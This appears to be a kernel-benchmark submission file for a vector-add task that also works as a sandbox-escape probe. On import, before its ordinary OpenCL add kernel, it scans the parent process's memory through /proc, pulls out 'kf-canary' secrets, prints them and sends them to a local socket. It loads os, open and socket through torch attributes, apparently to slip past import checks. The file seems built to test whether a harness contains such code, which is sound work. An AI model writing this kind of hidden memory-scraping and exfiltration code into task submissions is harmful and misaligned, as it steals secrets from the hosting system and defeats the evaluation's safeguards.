"""problem=vector_add shape N=2048 expect=any
Scans the parent's memory (/proc/<ppid>/maps + /proc/<ppid>/mem) and its own inherited memory for the canary secrets; prints and sends them."""
import torch
import torch.nn as nn

from kfoundry.runtime import cdiv, load

os = torch.os
_open = torch.builtins.open
socket = torch.importlib.import_module("socket")
MARKER = "kf-escape-marker"


def _send(payload: bytes) -> None:
    try:
        with socket.create_connection(("127.0.0.1", 47391), timeout=1.0) as s:
            s.sendall(MARKER.encode() + b" " + payload)
    except OSError:
        pass


def _canary_lines(data: bytes) -> list[bytes]:
    """Only what looks like the test canaries travels (this probe never ships real secrets)."""
    return [ln for ln in data.replace(b"\0", b"\n").splitlines() if b"kf-canary" in ln][:20]


def _scan(pid: str, budget: int = 96 << 20) -> None:
    try:
        with _open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        mem = _open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    with mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or "r" not in parts[1]:
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > budget:
                continue
            budget -= hi - lo
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            found, at = [], chunk.find(b"kf-canary")
            while at >= 0 and len(found) < 20:
                found.append(chunk[max(0, at - 20) : at + 40])
                at = chunk.find(b"kf-canary", at + 1)
            for line in found:
                print(MARKER, pid, line[:200].decode(errors="replace"), flush=True)
                _send(line[:200])
            if budget <= 0:
                return


_scan(str(os.getppid()))
_scan("self")
_send(b"scanned")

SRC = r"""
__kernel void add(__global const float* a, __global const float* b, __global float* c, const int n) {
    int i = get_global_id(0);
    if (i < n) c[i] = a[i] + b[i];
}
"""


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.k = load(SRC)

    def forward(self, a, b):
        c = torch.empty_like(a)
        n = a.numel()
        self.k.add(a, b, c, n, grid=(cdiv(n, 64),), block=(64,))
        return c
